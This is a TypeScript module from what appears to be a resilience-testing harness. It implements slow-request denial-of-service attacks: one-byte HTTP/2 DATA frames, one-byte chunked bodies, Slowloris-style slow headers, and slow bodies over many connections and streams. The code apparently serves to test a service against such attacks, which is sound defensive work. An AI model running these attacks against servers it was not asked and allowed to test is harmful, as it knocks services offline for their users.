/** Bodies in one-byte pieces, and bodies that hardly arrive. */
import type { TLSSocket } from 'node:tls';
import type { Attack, Tally } from '../attack.ts';
import { aborted, count, keepConnections, pause, pump } from '../connections.ts';
import { flags, frame, frameTypes, headerBlock, preface } from '../frames.ts';
import { type Asked, toFields, toHead, upload } from '../requests.ts';

const ports = ['ingest', 'stream'] as const;
const piecesPerWrite = 5000;
/** Concurrent streams on one connection. */
const streams = 50;

const oneByteFrames: Attack = {
  name: 'one-byte DATA',
  ports,
  tokens: [false, true],
  run: (target, stop) => {
    const block = headerBlock(toFields(upload(target)));
    return keepConnections({ target, stop, connections: 4, alpn: 'h2' }, async (socket, tally) => {
      socket.resume();
      await sendInFrames(socket, block, { stop, tally });
    });
  },
};

/** As many concurrent bodies as a connection may have, sequentially if they are refused. */
async function sendInFrames(
  socket: TLSSocket,
  block: Buffer,
  { stop, tally }: { readonly stop: AbortSignal; readonly tally: Tally },
): Promise<void> {
  socket.write(preface);
  for (let first = 1; !stop.aborted && !socket.destroyed; first += 2 * streams) {
    const ids = Array.from({ length: streams }, (_, index) => first + 2 * index);
    const heads = ids.map((stream) =>
      frame(frameTypes.headers, { stream, flag: flags.endHeaders }, block),
    );
    socket.write(Buffer.concat(heads));
    count(tally, 'requests', streams);
    const piece = Buffer.concat(
      ids.flatMap((stream) =>
        Array.from({ length: piecesPerWrite / streams }, () =>
          frame(frameTypes.data, { stream }, Buffer.from('[')),
        ),
      ),
    );
    let written = 0;
    const round = new AbortController();
    await pump(socket, AbortSignal.any([stop, round.signal]), () => {
      count(tally, 'pieces', piecesPerWrite);
      written += piecesPerWrite / streams;
      if (written >= 1_000_000) round.abort();
      return piece;
    });
  }
}

const oneByteChunks: Attack = {
  name: 'one-byte chunks',
  ports,
  tokens: [false, true],
  run: (target, stop) => {
    const head = toHead(upload(target), ['transfer-encoding: chunked', '', '']);
    const chunks = Buffer.from('1\r\n[\r\n'.repeat(piecesPerWrite));
    return keepConnections(
      { target, stop, connections: 32, alpn: 'http/1.1' },
      async (socket, tally) => {
        socket.resume();
        socket.write(head);
        count(tally, 'requests');
        await pump(socket, stop, () => {
          count(tally, 'pieces', piecesPerWrite);
          return chunks;
        });
      },
    );
  },
};

/** Slowloris: a byte now and then, so that the head never ends and the connection is never idle. */
const slowHeads: Attack = {
  name: 'slow heads',
  ports,
  tokens: [false],
  run: (target, stop) =>
    keepConnections({ target, stop, connections: 500, alpn: 'http/1.1' }, async (socket) => {
      socket.resume();
      socket.write('GET /healthz HTTP/1.1\r\nhost: localhost\r\nx-slow: ');
      await drip(socket, stop, () => Buffer.from('y'));
    }),
};

const slowBodies: Attack = {
  name: 'slow bodies',
  ports,
  tokens: [false, true],
  run: (target, stop) =>
    keepConnections({ target, stop, connections: 500, alpn: 'http/1.1' }, async (socket, tally) => {
      socket.resume();
      socket.write(toHead(upload(target), ['content-length: 100000', '', '']));
      count(tally, 'requests');
      await drip(socket, stop, () => Buffer.from('['));
    }),
};

const slowStreams: Attack = {
  name: 'slow bodies, 100 on each HTTP/2 connection',
  ports,
  tokens: [false, true],
  run: (target, stop) =>
    keepConnections({ target, stop, connections: 40, alpn: 'h2' }, async (socket, tally) => {
      socket.resume();
      await dripOnStreams(socket, upload(target), { stop, tally });
    }),
};

async function dripOnStreams(
  socket: TLSSocket,
  asked: Asked,
  { stop, tally }: { readonly stop: AbortSignal; readonly tally: Tally },
): Promise<void> {
  const block = headerBlock(toFields(asked));
  const ids = Array.from({ length: 100 }, (_, index) => 1 + 2 * index);
  const flag = flags.endHeaders;
  socket.write(preface);
  socket.write(
    Buffer.concat(ids.map((stream) => frame(frameTypes.headers, { stream, flag }, block))),
  );
  count(tally, 'requests', ids.length);
  const drops = Buffer.concat(
    ids.map((stream) => frame(frameTypes.data, { stream }, Buffer.from('['))),
  );
  await drip(socket, stop, () => drops);
  await aborted(stop);
}

async function drip(socket: TLSSocket, stop: AbortSignal, drop: () => Buffer): Promise<void> {
  while (!stop.aborted && !socket.destroyed) {
    socket.write(drop());
    await pause(1000, stop);
  }
}

export const bodies: readonly Attack[] = [
  oneByteFrames,
  oneByteChunks,
  slowHeads,
  slowBodies,
  slowStreams,
];
